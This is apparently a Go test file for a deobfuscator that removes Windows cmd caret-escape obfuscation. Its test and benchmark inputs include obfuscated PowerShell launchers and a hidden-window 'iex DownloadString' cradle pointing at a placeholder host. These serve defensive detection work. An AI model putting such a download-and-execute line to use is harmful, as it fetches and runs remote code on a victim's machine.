package deobfuscate

import "testing"

func TestCmdCaret(t *testing.T) {
	runTransformTable(t, CmdCaret, []transformCase{
		{"DOSfuscation launcher", `c^m^d /c "p^o^w^e^r^s^h^e^l^l -nop -c calc"`, `cmd /c "powershell -nop -c calc"`, true},
		{"doubled caret becomes one", `cmd /c echo a^^b`, `cmd /c echo a^b`, true},
		{"escaped operator kept", `cmd /c echo a^&b`, `cmd /c echo a^&b`, false},
		{"escaped quote is literal", `cmd.exe /c ^"whoami^"`, `cmd.exe /c "whoami"`, true},
		{"trailing continuation kept", `cmd /c dir ^`, `cmd /c dir ^`, false},
		{"bare word on a non-cmd line", `p^ower^shell -w hidden`, `powershell -w hidden`, true},
		{"regex anchor in grep", `grep -E '^[a-z]+$' file`, `grep -E '^[a-z]+$' file`, false},
		{"unquoted grep anchor", `grep ^root /etc/passwd`, `grep ^root /etc/passwd`, false},
		{"git revision", `git diff HEAD^1 HEAD^^`, `git diff HEAD^1 HEAD^^`, false},
		{"caret in commit message", `git commit -m "fix: a^b"`, `git commit -m "fix: a^b"`, false},
		{"findstr anchor in cmd quotes", `cmd /c findstr /r "^abc" x.txt`, `cmd /c findstr /r "^abc" x.txt`, false},
		{"no caret", `dir "C:\Program Files"`, `dir "C:\Program Files"`, false},
	})
}

func FuzzCmdCaret(f *testing.F) {
	fuzzTransform(f, CmdCaret, `c^m^d /c "p^o^w^e^r"`, `^^^&`, `a^`, `grep '^x'`)
}

func BenchmarkCmdCaret(b *testing.B) {
	benchTransform(b, CmdCaret, `c^m^d /c "p^o^w^e^r^s^h^e^l^l -nop -w hidden -c i^e^x (New-Object Net.WebClient).DownloadString('http://x/a')"`)
}

func BenchmarkCmdCaretBenign(b *testing.B) {
	benchTransform(b, CmdCaret, `git log --oneline --since=2.weeks -- internal/deobfuscate | head -n 20 && go test ./... -run TestRun -count=1`)
}
